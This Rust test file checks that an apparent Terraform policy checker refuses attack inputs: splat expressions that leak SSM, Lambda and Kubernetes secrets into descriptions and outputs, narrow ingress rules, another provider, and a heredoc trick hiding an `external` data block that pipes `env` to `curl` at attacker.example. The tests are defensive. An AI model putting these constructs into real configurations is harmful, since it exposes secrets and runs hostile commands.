//! A twenty-third round of attacks: a splat on a `for` variable over the
//! instances that hold the secrets (`p[*]`, `p.*`) is the whole instance,
//! its value among them, and was counted as naming an attribute: no read.
//! Through it every secret reached descriptions, names, plain parameters,
//! outputs under `nonsensitive(keys(…))` and policy documents. And every
//! port opened to the author's own address: one public /24 or narrower
//! was taken for an office's range. And blocks hidden between heredoc
//! ends only one parser sees, once more: the check that catches `EOT # …`
//! followed one heredoc at a time, and a comment ending in `<<ABC`, or a
//! heredoc nested in `${…}`, threw it off.

use super::*;

#[test]
fn the_twenty_third_round_of_attacks_is_refused() {
    let vm = vm_policy();
    let leak = "join(\",\", [for p in aws_ssm_parameter.env : base64encode(jsonencode(p[*]))])";
    let role = |description: &str| {
        format!(
            "resource \"aws_iam_role\" \"meta\" {{\n  name_prefix        = \"x-\"\n  description        = {description}\n  assume_role_policy = jsonencode({{ Version = \"2012-10-17\", Statement = [{{ Effect = \"Allow\", Action = \"sts:AssumeRole\", Principal = {{ Service = \"ec2.amazonaws.com\" }} }}] }})\n}}\n"
        )
    };
    assert_each_refused(vec![
        (
            "the parameters' instances, splatted, in a role's description",
            role(leak),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "an attribute splat of the same",
            role("join(\",\", [for p in aws_ssm_parameter.env : jsonencode(p.*)])"),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "a second for over the splat, picking the value",
            role("join(\",\", [for p in aws_ssm_parameter.env : one([for q in p[*] : q.value])])"),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "the function's instances, splatted, their environment picked",
            role("join(\",\", [for f in aws_lambda_function.app[*] : one([for e in f[*] : jsonencode(e.environment)])])"),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "a Kubernetes secret's instances, splatted",
            role("join(\",\", [for s in kubernetes_secret_v1.env[*] : base64encode(jsonencode(s[*]))])"),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "values made keys of a local, printed through nonsensitive(keys())",
            "locals {\n  env_by_value = { for p in aws_ssm_parameter.env : one([for q in p[*] : q.value]) => p.name }\n}\n\noutput \"env_parameters\" {\n  value = nonsensitive(toset(keys(local.env_by_value)))\n}\n".to_owned(),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "a plain parameter holding every secret",
            "resource \"aws_ssm_parameter\" \"copy\" {\n  name  = \"/deployflow/x/COPY\"\n  type  = \"String\"\n  value = join(\",\", [for p in aws_ssm_parameter.env : jsonencode(p[*])])\n}\n".to_owned(),
            &[Rule::SecretExposure],
            &vm,
        ),
    ]);
}

#[test]
fn every_port_open_to_the_authors_own_address_is_refused() {
    let vm = vm_policy();
    assert_each_refused(vec![
        (
            "all protocols from one address",
            "resource \"aws_vpc_security_group_ingress_rule\" \"ops\" {\n  security_group_id = aws_security_group.app.id\n  ip_protocol       = \"-1\"\n  cidr_ipv4         = \"198.51.100.7/32\"\n}\n".to_owned(),
            &[Rule::WorldIngress],
            &vm,
        ),
        (
            "SSH from one /24",
            "resource \"aws_security_group_rule\" \"ssh\" {\n  type              = \"ingress\"\n  security_group_id = aws_security_group.app.id\n  protocol          = \"tcp\"\n  from_port         = 22\n  to_port           = 22\n  cidr_blocks       = [\"203.0.113.0/24\"]\n}\n".to_owned(),
            &[Rule::WorldIngress],
            &vm,
        ),
    ]);
}

#[test]
fn blocks_hidden_by_heredocs_a_comment_or_a_nested_heredoc_misled_are_refused() {
    let vm = vm_policy();
    let hidden = "  motd = <<EOF\nEOT\n}\n\ndata \"external\" \"warm\" {\n  program = [\"sh\", \"-c\", \"env | curl -s --data-binary @- https://attacker.example/\"]\n}\n\nlocals {\n  tail = <<EOF\nEOF\n}\n";
    assert_each_refused(vec![
        (
            "a comment that looks like an opener",
            format!(
                "# motd = <<ABC\nlocals {{\n  banner = <<EOT\ndeployflow\nEOT # closes the banner\n{hidden}"
            ),
            &[Rule::Character],
            &vm,
        ),
        (
            "a heredoc nested in an interpolation",
            format!(
                "locals {{\n  banner = <<EOT\n${{<<EOT\ndeployflow\nEOT\n}}\nEOT # closes the banner\n{hidden}"
            ),
            &[Rule::Character],
            &vm,
        ),
    ]);
}

/// Naming an attribute first still leaves the secret behind: the names and
/// ARNs of the parameters are no secret.
#[test]
fn names_and_arns_read_through_a_for_variable_pass() {
    let vm = vm_policy();
    let report = check_with(
        "output \"env_parameters\" {\n  value = [for p in aws_ssm_parameter.env : p.name]\n}\n\noutput \"env_arns\" {\n  value = [for p in aws_ssm_parameter.env : p[\"arn\"]]\n}\n",
        &vm,
    );
    assert!(
        !report.rules().contains(&Rule::SecretExposure),
        "{:#?}",
        report.violations
    );
}

/// The rules `bad` breaks that `good`, the same resource with the value
/// the templates write, does not.
fn added_rules(good: &str, bad: &str, policy: &Policy) -> BTreeSet<Rule> {
    let passed = check_with(good, policy);
    let refused = check_with(bad, policy);
    let before: BTreeSet<String> = passed.violations.iter().map(ToString::to_string).collect();
    refused
        .violations
        .iter()
        .filter(|v| !before.contains(&v.to_string()))
        .map(|v| v.rule)
        .collect()
}

/// Settings whose every other value costs or opens something: each case
/// is the templates' resource with one value changed.
#[test]
fn settings_the_templates_pin_are_refused_at_other_values() {
    let vm = vm_policy();
    let service = Policy::for_choice(&choice(Target::ContainerService));
    let kubernetes = Policy::for_choice(&choice(Target::Kubernetes));
    let serverless = Policy::for_choice(&choice(Target::Serverless));
    let nodes = |ami: &str| {
        format!(
            "resource \"aws_eks_node_group\" \"x\" {{\n  cluster_name    = aws_eks_cluster.main.name\n  node_role_arn   = aws_iam_role.nodes.arn\n  subnet_ids      = aws_subnet.public[*].id\n  instance_types  = [\"t3.medium\"]\n  ami_type        = \"{ami}\"\n  scaling_config {{\n    desired_size = 1\n    max_size     = 1\n    min_size     = 1\n  }}\n}}\n"
        )
    };
    let ami = |name: &str| {
        format!(
            "data \"aws_ami\" \"x\" {{\n  most_recent = true\n  owners      = [\"amazon\"]\n  filter {{\n    name   = \"name\"\n    values = [\"{name}\"]\n  }}\n}}\n"
        )
    };
    let cache = |version: &str| {
        format!(
            "resource \"aws_elasticache_replication_group\" \"x\" {{\n  replication_group_id = \"x\"\n  description          = \"x\"\n  engine               = \"redis\"\n  engine_version       = \"{version}\"\n  node_type            = \"cache.t4g.micro\"\n  num_cache_clusters   = 1\n}}\n"
        )
    };
    let insights = |value: &str| {
        format!(
            "resource \"aws_ecs_cluster\" \"x\" {{\n  name = \"x\"\n  setting {{\n    name  = \"containerInsights\"\n    value = \"{value}\"\n  }}\n}}\n"
        )
    };
    let vpc =
        |cidr: &str| format!("resource \"aws_vpc\" \"x\" {{\n  cidr_block = \"{cidr}\"\n}}\n");
    let namespace = |name: &str| {
        format!(
            "resource \"kubernetes_namespace_v1\" \"x\" {{\n  metadata {{\n    name = \"{name}\"\n  }}\n}}\n"
        )
    };
    let permission = |principal: &str| {
        format!(
            "resource \"aws_lambda_permission\" \"x\" {{\n  statement_id  = \"x\"\n  action        = \"lambda:InvokeFunction\"\n  function_name = aws_lambda_function.app.function_name\n  principal     = \"{principal}\"\n}}\n"
        )
    };
    let pod = |drop: &str| {
        format!(
            "resource \"kubernetes_deployment_v1\" \"x\" {{\n  metadata {{\n    name      = \"x\"\n    namespace = kubernetes_namespace_v1.app.metadata[0].name\n  }}\n  spec {{\n    template {{\n      spec {{\n        automount_service_account_token = false\n        container {{\n          name  = \"app\"\n          image = \"${{aws_ecr_repository.app.repository_url}}:1\"\n          security_context {{\n            capabilities {{\n              drop = [\"{drop}\"]\n            }}\n          }}\n        }}\n      }}\n    }}\n  }}\n}}\n"
        )
    };
    let retention = |days: &str| {
        format!(
            "resource \"aws_cloudwatch_log_group\" \"x\" {{\n  name              = \"/deployflow/x\"\n  retention_in_days = {days}\n}}\n"
        )
    };
    let launch = |kind: &str| {
        format!(
            "resource \"aws_ecs_service\" \"x\" {{\n  name            = \"x\"\n  cluster         = aws_ecs_cluster.main.id\n  task_definition = aws_ecs_task_definition.app.arn\n  launch_type     = \"{kind}\"\n}}\n"
        )
    };
    let task_mode = |mode: &str| {
        format!(
            "resource \"aws_ecs_task_definition\" \"x\" {{\n  family                   = \"x\"\n  requires_compatibilities = [\"FARGATE\"]\n  network_mode             = \"{mode}\"\n  container_definitions    = jsonencode([{{ name = \"app\", image = \"${{aws_ecr_repository.app.repository_url}}:1\" }}])\n}}\n"
        )
    };
    let cases: Vec<(&str, String, String, &Policy, Rule)> = vec![
        (
            "Windows nodes",
            nodes("AL2023_x86_64_STANDARD"),
            nodes("WINDOWS_FULL_2022_x86_64"),
            &kubernetes,
            Rule::SizeNotBounded,
        ),
        (
            "a SQL Server image",
            ami("al2023-ami-2023.*-x86_64"),
            ami("Windows_Server-2022-English-Full-SQL_2022_Enterprise-*"),
            &vm,
            Rule::DataSourceScope,
        ),
        (
            "a cache past standard support",
            cache("7.1"),
            cache("5.0.6"),
            &service,
            Rule::SizeNotBounded,
        ),
        (
            "enhanced Container Insights",
            insights("enabled"),
            insights("enhanced"),
            &service,
            Rule::SizeNotBounded,
        ),
        (
            "a public range as the VPC's",
            vpc("10.42.0.0/16"),
            vpc("3.96.0.0/16"),
            &vm,
            Rule::WorldIngress,
        ),
        (
            "the app in kube-system",
            namespace("df-app"),
            namespace("kube-system"),
            &kubernetes,
            Rule::PodPrivilege,
        ),
        (
            "any account's API Gateway",
            permission("*"),
            permission("apigateway.amazonaws.com"),
            &serverless,
            Rule::IamPrincipal,
        ),
        (
            "a container keeping the runtime's capabilities",
            pod("ALL"),
            pod("NET_RAW"),
            &kubernetes,
            Rule::PodPrivilege,
        ),
        (
            "audit logs kept a day",
            retention("365"),
            retention("1"),
            &vm,
            Rule::SizeNotBounded,
        ),
        (
            "logs kept for ever",
            retention("365"),
            retention("0"),
            &vm,
            Rule::SizeNotBounded,
        ),
        (
            "a service on EC2 instances",
            launch("FARGATE"),
            launch("EC2"),
            &service,
            Rule::PodPrivilege,
        ),
        (
            "a task on the host's network",
            task_mode("awsvpc"),
            task_mode("host"),
            &service,
            Rule::PodPrivilege,
        ),
    ];
    for (what, good, bad, policy, rule) in cases {
        assert_eq!(
            added_rules(&good, &bad, policy),
            BTreeSet::from([rule]),
            "{what}"
        );
    }
}

/// A resource handed to a provider no rule allowed makes `terraform init`
/// fetch and start it.
#[test]
fn a_resource_of_another_provider_by_meta_argument_is_refused() {
    let vm = vm_policy();
    let group = |provider: &str| {
        format!(
            "resource \"aws_cloudwatch_log_group\" \"x\" {{\n  provider          = {provider}\n  name              = \"/deployflow/x\"\n  retention_in_days = 14\n}}\n"
        )
    };
    assert_eq!(
        added_rules(&group("aws"), &group("external"), &vm),
        BTreeSet::from([Rule::ProviderNotAllowed])
    );
}
